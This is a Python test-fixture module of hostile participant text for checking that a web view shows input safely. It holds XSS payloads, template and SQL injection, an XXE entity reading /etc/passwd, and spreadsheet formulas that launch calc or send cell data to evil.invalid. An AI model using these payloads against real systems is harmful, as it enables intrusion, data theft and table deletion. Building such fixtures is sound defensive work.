"""A corpus of hostile participant text: markup, script, injection and awkward Unicode.

Every payload that could run, if it ever ran, marks the page in a way a test can see: it sets
``window.__pwned``, sets the title to ``PWNED`` or logs ``PWNED`` to the console. ``MARK`` is a
plain word each payload carries so a test can find the text on the page once it is shown as text.
"""

from __future__ import annotations

PWN = "window.__pwned=1;document.title='PWNED';console.log('PWNED')"

# Markup and script: these would run if a view inserted them as HTML.
MARKUP = [
    f"<script>{PWN}</script>",
    f"<SCRIPT>{PWN}</SCRIPT>",
    f"<script src=data:text/javascript,{PWN}></script>",
    f'<img src=x onerror="{PWN}">',
    f"<img src=x onerror={PWN.replace(' ', '')}>",
    f'<svg onload="{PWN}"></svg>',
    f"<svg><script>{PWN}</script></svg>",
    f'<svg><animate onbegin="{PWN}" attributeName=x dur=1s>',
    f'<body onload="{PWN}">',
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f'<a href="javascript:{PWN}">click me</a>',
    f'<a href="JaVaScRiPt:{PWN}">mixed case</a>',
    f'<a href="&#106;avascript:{PWN}">entity scheme</a>',
    f'<details open ontoggle="{PWN}">',
    f'<input autofocus onfocus="{PWN}">',
    f'<video><source onerror="{PWN}"></video>',
    f'<marquee onstart="{PWN}">scroll</marquee>',
    f'<object data="javascript:{PWN}"></object>',
    f'<embed src="javascript:{PWN}">',
    f'<form action="javascript:{PWN}"><button>go</button></form>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    f'"><script>{PWN}</script>',
    f'\'><img src=x onerror="{PWN}">',
    f"</textarea><script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f'<!--<img src="--><img src=x onerror="{PWN}">',
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f'<div style="background:url(javascript:{PWN})">bg</div>',
    "<style>@import 'http://evil.invalid/x.css';</style>",
    f'<div style="width:expression({PWN})">css expression</div>',
    f'<link rel=stylesheet href="javascript:{PWN}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    f'<base href="javascript:{PWN}//">',
    f"javascript:{PWN}",
    f"data:text/html,<script>{PWN}</script>",
    "<b>bold<i>unclosed <u>tags",
    "<<<>>>&&& </div></div></body></html>",
    "&lt;script&gt;not really&lt;/script&gt; &amp; &#60;b&#62; &#x3C;i&#x3E;",
    '";alert(1);//',
    "';alert(1);//",
    f"\\u003cscript\\u003e{PWN}\\u003c/script\\u003e",
]

# Templates and formula starters: these would run if a server or spreadsheet evaluated them.
INJECTION = [
    "{{7*7}} {{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{% raw %}{{ self }}{% endraw %}",
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "&xxe; &amp; &lt;node&gt; ]]> <![CDATA[ cdata ]]>",
    "Robert'); DROP TABLE participants;--",
    "%s %d %x %n {0} {name}",
]

# Awkward text: must be shown as it is, without breaking the layout or the page.
AWKWARD = [
    "\u202egnp.exe\u202c reversed with a bidi override",
    "\u2066isolate\u2069 \u200fright-to-left mark\u200e",
    "zero\u200bwidth\u200cjoin\u200ders\ufeff",
    "👩\u200d👩\u200d👧\u200d👦 family 🏳️\u200d🌈 🇬🇧 ✊🏿",
    "W" * 5000,
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "0",
    "[]",
    "{}",
    # NUL itself is refused at the edge (tests/test_config.py); other control characters must stay text.
    "\u0007 bell \u001b[31m escape \u0008 backspace",
    "Ťéşţ ẞ ﬁ Ω 漢字 العربية עברית",
]

PAYLOADS: list[str] = MARKUP + INJECTION + AWKWARD

def sample(n: int, offset: int = 0) -> list[str]:
    """n payloads taken round-robin from the corpus starting at offset, so every field gets a mix."""
    return [PAYLOADS[(offset + i) % len(PAYLOADS)] for i in range(n)]


def fits(payload: str, limit: int) -> str:
    """The payload cut to a field's length limit (the 5,000-char word is cut, the rest fit)."""
    return payload[:limit]
